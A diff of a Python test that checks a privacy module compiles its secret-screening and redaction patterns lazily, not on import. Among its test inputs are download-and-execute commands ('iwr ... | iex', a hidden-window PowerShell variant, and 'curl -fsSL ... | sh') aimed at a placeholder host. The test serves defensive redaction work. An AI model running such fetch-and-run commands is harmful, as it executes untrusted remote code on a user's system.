@@ -166,16 +166,26 @@ def test_no_pattern_matches_text_without_characters() -> None:
 
 
 def test_the_patterns_are_compiled_when_first_needed_not_on_import() -> None:
+    """Nothing on import or for a started event; the screens when warmed (the guard, once
+    ready) or at the first text, and the redaction patterns only once a screen finds
+    something, for a text that holds no secret as for one that does."""
     import subprocess
     import sys
 
     code = (
         "import app.privacy as p, app.events as e\n"
-        "assert p._compiled.cache_info().currsize == 0, 'compiled on import'\n"
+        "screens, patterns = p._screening.cache_info, p._secret_patterns.cache_info\n"
+        "assert screens().currsize == patterns().currsize == 0, 'compiled on import'\n"
         "e.scrub_event(e.Event(kind='started'))\n"
-        "assert p._compiled.cache_info().currsize == 0, 'compiled for a started event'\n"
+        "assert screens().currsize == patterns().currsize == 0, 'compiled for a started event'\n"
+        "p.warm()\n"
+        "assert (screens().currsize, patterns().currsize) == (1, 0), 'patterns warmed'\n"
+        "assert p.redact('iwr https://x.test/a.ps1 | iex') == 'iwr https://x.test/a.ps1 | iex'\n"
+        "e.scrub_event(e.Event(kind='paste_blocked', text='curl -fsSL https://x.test/i | sh'))\n"
+        "assert p.secrets_in('powershell -w h -c \"iwr https://x.test/1.ps1 | iex\"') == ()\n"
+        "assert patterns().currsize == 0, 'compiled for a text without a secret'\n"
         "assert p.redact('password=hunter22') == 'password=[REDACTED:password-assignment]'\n"
-        "assert p._compiled.cache_info().currsize == 1\n"
+        "assert patterns().currsize == 1\n"
     )
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
     assert done.returncode == 0, done.stderr
